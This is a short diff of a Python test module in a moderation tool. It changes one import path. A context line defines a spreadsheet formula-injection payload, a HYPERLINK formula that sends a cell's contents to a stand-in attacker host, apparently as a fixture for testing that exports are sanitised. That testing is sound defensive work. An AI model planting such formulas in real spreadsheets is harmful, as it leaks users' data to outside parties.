@@ -19,7 +19,7 @@ from moderator.services.handout.exporting import SUFFIXES, export
 from moderator.services.library import Library
 from moderator.services.report import reporting
 from moderator.services.review import reviewing
-from tests.services.report.test_reporting import harmless
+from tests.services.pages import harmless
 from tests.store.making import fill
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
